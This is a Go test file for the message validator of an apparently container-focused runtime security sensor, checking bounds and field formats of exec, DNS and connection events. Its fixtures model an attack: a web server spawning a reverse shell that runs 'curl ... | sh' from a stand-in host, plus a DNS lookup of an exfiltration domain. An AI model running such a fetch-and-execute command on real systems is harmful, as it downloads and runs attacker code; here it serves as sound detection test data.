package wire

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

var (
	testTime   = time.Date(2025, 11, 25, 10, 30, 0, 123456789, time.UTC)
	testDigest = "sha256:" + strings.Repeat("ab", 32)
)

// testContainer is a Kubernetes container as containerd describes it.
func testContainer() *Container {
	return &Container{
		ID:               "3f1c9a7b2d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8",
		Name:             "api",
		Runtime:          "containerd",
		RuntimeNamespace: "k8s.io",
		Pod:              "api-7d9f8c6b5-x2x4q",
		Namespace:        "shop",
		PodUID:           "0b9d3c1e-5a4f-4e2b-9c8d-7f6e5d4c3b2a",
		Image:            "registry.example.com/shop/api:v1.4.2",
		Digest:           testDigest,
	}
}

// testExec is a shell spawned by a web server: the classic reverse shell
// shape, which exercises every Process field.
func testExec() Event {
	return Event{
		Kind: KindExec,
		Time: testTime,
		Process: Process{
			PID: 4242, PPID: 4200, UID: 33,
			Comm:   "sh",
			Exe:    "/bin/sh",
			Args:   []string{"sh", "-c", "curl -s http://203.0.113.7/x | sh"},
			Drift:  true,
			Stdin:  "tcp",
			Stdout: "tcp",
			Stderr: "pipe",
			Remote: "203.0.113.7:4444",
			Start:  testTime.Add(-time.Millisecond),
		},
		Ancestors: []Process{
			{PID: 4200, PPID: 1, UID: 33, Comm: "node", Exe: "/usr/local/bin/node", Args: []string{"node", "server.js"}, Stdin: "char", Stdout: "pipe", Stderr: "pipe"},
			{PID: 1, UID: 0, Comm: "tini", Exe: "/sbin/tini", Args: []string{"tini", "--", "node", "server.js"}},
		},
		Container: testContainer(),
	}
}

func testDNS() Event {
	return Event{
		Kind:      KindDNS,
		Time:      testTime.Add(time.Second),
		Process:   Process{PID: 4243, PPID: 4242, UID: 33, Comm: "curl", Exe: "/usr/bin/curl"},
		Ancestors: []Process{{PID: 4242, PPID: 4200, UID: 33, Comm: "sh", Exe: "/bin/sh"}},
		Container: testContainer(),
		DNS:       &DNSQuery{Name: "exfil.attacker.example", Type: "TXT", Server: "10.96.0.10:53"},
	}
}

func testConnect() Event {
	return Event{
		Kind:      KindConnect,
		Time:      testTime.Add(2 * time.Second),
		Process:   Process{PID: 4243, PPID: 4242, UID: 33, Comm: "curl", Exe: "/usr/bin/curl"},
		Container: testContainer(),
		Remote:    "[2001:db8::7]:443",
	}
}

// testBatch is a realistic valid batch: an exec with arguments, ancestors
// and a container with a digest, a DNS query and a connection.
func testBatch() *Batch {
	return &Batch{
		ID:      "0123456789abcdef0123456789abcdef",
		Node:    "ip-10-0-1-23.eu-west-1.compute.internal",
		Sensor:  "v0.9.0",
		SentAt:  testTime.Add(5 * time.Second),
		Dropped: 3,
		Events:  []Event{testExec(), testDNS(), testConnect()},
	}
}

// largeBatch is a batch of n events cycling through the three kinds, with
// distinct processes, the size a busy node sends.
func largeBatch(n int) *Batch {
	b := testBatch()
	b.Events = make([]Event, n)
	for i := range b.Events {
		var e Event
		switch i % 3 {
		case 0:
			e = testExec()
		case 1:
			e = testDNS()
		default:
			e = testConnect()
		}
		e.Process.PID = uint32(10_000 + i)
		e.Time = testTime.Add(time.Duration(i) * time.Millisecond)
		b.Events[i] = e
	}
	return b
}

func TestValidateAcceptsRealisticBatch(t *testing.T) {
	if err := testBatch().Validate(); err != nil {
		t.Fatalf("Validate() = %v, want nil", err)
	}
	if err := largeBatch(1000).Validate(); err != nil {
		t.Fatalf("Validate() of 1000 events = %v, want nil", err)
	}
}

// TestValidateAcceptsBounds checks each bound is inclusive: a value exactly
// at the limit passes, so that the refusal tests below test the limit and
// not something else.
func TestValidateAcceptsBounds(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Batch)
	}{
		{"no events", func(b *Batch) { b.Events = nil }},
		{"host process without container or ancestors", func(b *Batch) {
			b.Events[0].Container, b.Events[0].Ancestors = nil, nil
		}},
		{"MaxEvents events", func(b *Batch) { b.Events = largeBatch(MaxEvents).Events }},
		{"MaxLabel node", func(b *Batch) { b.Node = strings.Repeat("n", MaxLabel) }},
		{"MaxLabel sensor", func(b *Batch) { b.Sensor = strings.Repeat("s", MaxLabel) }},
		{"MaxAncestors ancestors", func(b *Batch) {
			b.Events[0].Ancestors = make([]Process, MaxAncestors)
		}},
		{"MaxArgs args", func(b *Batch) { b.Events[0].Process.Args = make([]string, MaxArgs) }},
		{"MaxArgBytes of args", func(b *Batch) {
			b.Events[0].Process.Args = []string{strings.Repeat("a", MaxArgBytes-1), "b"}
		}},
		{"MaxString exe", func(b *Batch) { b.Events[0].Process.Exe = "/" + strings.Repeat("x", MaxString-1) }},
		{"MaxString image", func(b *Batch) { b.Events[0].Container.Image = strings.Repeat("i", MaxString) }},
		{"MaxLabel container id", func(b *Batch) { b.Events[0].Container.ID = strings.Repeat("c", MaxLabel) }},
		{"no digest", func(b *Batch) { b.Events[0].Container.Digest = "" }},
		{"255-byte dns name", func(b *Batch) { b.Events[1].DNS.Name = strings.Repeat("a", 255) }},
		{"truncated dns question without type", func(b *Batch) {
			b.Events[1].DNS.Type, b.Events[1].DNS.Truncated = "", true
		}},
		{"every stdio type", func(b *Batch) {
			for _, ft := range []string{"", "file", "pipe", "char", "tcp", "udp", "unix", "socket", "other"} {
				e := testExec()
				e.Process.Stdin, e.Process.Stdout, e.Process.Stderr = ft, ft, ft
				b.Events = append(b.Events, e)
			}
		}},
		{"IPv4 and IPv6 remotes", func(b *Batch) {
			b.Events[2].Remote = "192.0.2.1:80"
			b.Events[0].Process.Remote = "[fe80::1%eth0]:22"
		}},
		{"non-ASCII text", func(b *Batch) { b.Events[0].Process.Args = []string{"echo", "héllo wörld ✓"} }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := testBatch()
			tt.mutate(b)
			if err := b.Validate(); err != nil {
				t.Fatalf("Validate() = %v, want nil", err)
			}
		})
	}
}

func TestBatchValidateRefuses(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(*Batch)
		// want are substrings of the error: the field, and for an
		// event's field the event's index.
		want []string
	}{
		{"empty batch id", func(b *Batch) { b.ID = "" }, []string{"batch id"}},
		{"short batch id", func(b *Batch) { b.ID = b.ID[:31] }, []string{"batch id"}},
		{"uppercase batch id", func(b *Batch) { b.ID = strings.ToUpper(b.ID) }, []string{"batch id"}},
		{"batch id with newline", func(b *Batch) { b.ID += "\n" }, []string{"batch id"}},
		{"empty node", func(b *Batch) { b.Node = "" }, []string{"node is empty"}},
		{"oversized node", func(b *Batch) { b.Node = strings.Repeat("n", MaxLabel+1) }, []string{"node is 254 bytes"}},
		{"node with control character", func(b *Batch) { b.Node = "node\x1b[2J" }, []string{"node has a control"}},
		{"oversized sensor", func(b *Batch) { b.Sensor = strings.Repeat("v", MaxLabel+1) }, []string{"sensor is"}},
		{"too many events", func(b *Batch) { b.Events = make([]Event, MaxEvents+1) }, []string{"10001 events"}},
		{"bad second event", func(b *Batch) { b.Events[1].Kind = "" }, []string{"event 1:", "kind"}},
		{"bad last event", func(b *Batch) { b.Events[2].Remote = "" }, []string{"event 2:", "remote"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := testBatch()
			tt.mutate(b)
			checkInvalid(t, b.Validate(), tt.want...)
		})
	}
}

func TestEventValidateRefuses(t *testing.T) {
	tests := []struct {
		name   string
		event  func() Event
		mutate func(*Event)
		want   []string
	}{
		{"unknown kind", testExec, func(e *Event) { e.Kind = "fork" }, []string{`kind "fork"`}},
		{"empty kind", testExec, func(e *Event) { e.Kind = "" }, []string{"kind"}},
		{"kind in upper case", testExec, func(e *Event) { e.Kind = "EXEC" }, []string{"kind"}},
		{"exec with dns", testExec, func(e *Event) { e.DNS = &DNSQuery{Name: "x.example", Type: "A"} }, []string{"dns"}},
		{"exec with remote", testExec, func(e *Event) { e.Remote = "192.0.2.1:80" }, []string{"remote"}},
		{"dns without query", testDNS, func(e *Event) { e.DNS = nil }, []string{"no query"}},
		{"dns with remote", testDNS, func(e *Event) { e.Remote = "192.0.2.1:53" }, []string{"remote"}},
		{"dns with empty name", testDNS, func(e *Event) { e.DNS.Name = "" }, []string{"dns.name"}},
		{"dns name over 255 bytes", testDNS, func(e *Event) { e.DNS.Name = strings.Repeat("a", 256) }, []string{"dns.name is 256 bytes"}},
		{"dns name with control character", testDNS, func(e *Event) { e.DNS.Name = "a\x00b.example" }, []string{"dns.name has a control"}},
		{"dns type over 16 bytes", testDNS, func(e *Event) { e.DNS.Type = strings.Repeat("T", 17) }, []string{"dns.type"}},
		{"dns server not IP:port", testDNS, func(e *Event) { e.DNS.Server = "10.96.0.10" }, []string{"dns.server"}},
		{"connect without remote", testConnect, func(e *Event) { e.Remote = "" }, []string{"remote is empty"}},
		{"connect with hostname remote", testConnect, func(e *Event) { e.Remote = "attacker.example:443" }, []string{"remote"}},
		{"connect with remote without port", testConnect, func(e *Event) { e.Remote = "192.0.2.1" }, []string{"remote"}},
		{"connect with port out of range", testConnect, func(e *Event) { e.Remote = "192.0.2.1:65536" }, []string{"remote"}},
		{"connect with dns", testConnect, func(e *Event) { e.DNS = &DNSQuery{Name: "x.example", Type: "A"} }, []string{"dns"}},
		{"zero time", testExec, func(e *Event) { e.Time = time.Time{} }, []string{"time"}},
		{"zero time in another zone", testExec, func(e *Event) {
			e.Time = time.Time{}.In(time.FixedZone("CET", 3600))
		}, []string{"time"}},
		{"comm with control character", testExec, func(e *Event) { e.Process.Comm = "sh\n" }, []string{"process.comm has a control"}},
		{"exe with DEL", testExec, func(e *Event) { e.Process.Exe = "/bin/\x7fsh" }, []string{"process.exe has a control"}},
		{"oversized exe", testExec, func(e *Event) { e.Process.Exe = strings.Repeat("x", MaxString+1) }, []string{"process.exe is 4097 bytes"}},
		{"oversized comm", testExec, func(e *Event) { e.Process.Comm = strings.Repeat("x", MaxString+1) }, []string{"process.comm is"}},
		{"too many args", testExec, func(e *Event) { e.Process.Args = make([]string, MaxArgs+1) }, []string{"process.args: 129 arguments"}},
		{"too many arg bytes", testExec, func(e *Event) {
			e.Process.Args = []string{strings.Repeat("a", MaxArgBytes), "b"}
		}, []string{"process.args: 4097 bytes"}},
		{"unknown stdin type", testExec, func(e *Event) { e.Process.Stdin = "fifo" }, []string{`process.stdin: unknown file type "fifo"`}},
		{"unknown stdout type", testExec, func(e *Event) { e.Process.Stdout = "TCP" }, []string{"process.stdout"}},
		{"unknown stderr type", testExec, func(e *Event) { e.Process.Stderr = "\x00" }, []string{"process.stderr"}},
		{"process remote not IP:port", testExec, func(e *Event) { e.Process.Remote = "203.0.113.7" }, []string{"process.remote"}},
		{"too many ancestors", testExec, func(e *Event) { e.Ancestors = make([]Process, MaxAncestors+1) }, []string{"17 ancestors"}},
		{"ancestor with control character", testExec, func(e *Event) { e.Ancestors[1].Exe = "/sbin/\ttini" }, []string{"ancestors[1]", "ancestor.exe"}},
		{"ancestor with too many args", testExec, func(e *Event) { e.Ancestors[0].Args = make([]string, MaxArgs+1) }, []string{"ancestors[0]", "ancestor.args"}},
		{"ancestor with unknown stdio", testExec, func(e *Event) { e.Ancestors[1].Stdout = "tty" }, []string{"ancestors[1]", "ancestor.stdout"}},
		{"ancestor with bad remote", testExec, func(e *Event) { e.Ancestors[1].Remote = "nowhere" }, []string{"ancestors[1]", "ancestor.remote"}},
		{"container without id", testExec, func(e *Event) { e.Container.ID = "" }, []string{"container.id is empty"}},
		{"oversized container id", testExec, func(e *Event) { e.Container.ID = strings.Repeat("c", MaxLabel+1) }, []string{"container.id is 254 bytes"}},
		{"oversized pod", testExec, func(e *Event) { e.Container.Pod = strings.Repeat("p", MaxLabel+1) }, []string{"container.pod is"}},
		{"namespace with control character", testExec, func(e *Event) { e.Container.Namespace = "shop\r" }, []string{"container.namespace has a control"}},
		{"oversized image", testExec, func(e *Event) { e.Container.Image = strings.Repeat("i", MaxString+1) }, []string{"container.image is"}},
		{"digest without algorithm", testExec, func(e *Event) { e.Container.Digest = strings.Repeat("ab", 32) }, []string{"container.digest"}},
		{"digest of another algorithm", testExec, func(e *Event) { e.Container.Digest = "sha512:" + strings.Repeat("ab", 64) }, []string{"container.digest"}},
		{"digest too short", testExec, func(e *Event) { e.Container.Digest = testDigest[:len(testDigest)-1] }, []string{"container.digest"}},
		{"digest in upper case", testExec, func(e *Event) { e.Container.Digest = "sha256:" + strings.Repeat("AB", 32) }, []string{"container.digest"}},
		{"digest with trailing newline", testExec, func(e *Event) { e.Container.Digest = testDigest + "\n" }, []string{"container.digest"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := tt.event()
			if err := e.Validate(); err != nil {
				t.Fatalf("Validate() of the unmutated event = %v, want nil", err)
			}
			tt.mutate(&e)
			checkInvalid(t, e.Validate(), tt.want...)

			// The same event in a batch is refused too, naming it.
			b := testBatch()
			b.Events = append(b.Events, e)
			checkInvalid(t, b.Validate(), append([]string{"event 3:"}, tt.want...)...)
		})
	}
}

// TestValidateClipsHostileValues checks an error does not quote a huge
// hostile value whole: errors end up in logs and responses.
func TestValidateClipsHostileValues(t *testing.T) {
	huge := strings.Repeat("z", 1<<20)
	for name, mutate := range map[string]func(*Batch){
		"batch id": func(b *Batch) { b.ID = huge },
		"kind":     func(b *Batch) { b.Events[0].Kind = huge },
		"digest":   func(b *Batch) { b.Events[0].Container.Digest = huge },
		"remote":   func(b *Batch) { b.Events[2].Remote = huge },
		"stdin":    func(b *Batch) { b.Events[0].Process.Stdin = huge },
	} {
		t.Run(name, func(t *testing.T) {
			b := testBatch()
			mutate(b)
			err := b.Validate()
			checkInvalid(t, err, name)
			if len(err.Error()) > 512 {
				t.Errorf("error is %d bytes long, want it to clip the value", len(err.Error()))
			}
		})
	}
}

// checkInvalid fails t unless err wraps ErrInvalid and its message holds
// each of want.
func checkInvalid(t *testing.T, err error, want ...string) {
	t.Helper()
	if err == nil {
		t.Fatalf("got no error, want one wrapping ErrInvalid and naming %q", want)
	}
	if !errors.Is(err, ErrInvalid) {
		t.Errorf("error %q does not wrap ErrInvalid", err)
	}
	for _, w := range want {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("error %q does not contain %q", err, w)
		}
	}
}

func BenchmarkValidate(b *testing.B) {
	batch := largeBatch(1000)
	if err := batch.Validate(); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if err := batch.Validate(); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(batch.Events)), "ns/event")
}

// ExampleBatch_Validate shows the error a malformed event gives.
func ExampleBatch_Validate() {
	b := testBatch()
	b.Events[0].Ancestors[1].Exe = "/sbin/\x00tini"
	fmt.Println(b.Validate())
	// Output: event 0: ancestors[1]: invalid sensor message: ancestor.exe has a control or invalid character at byte 6
}
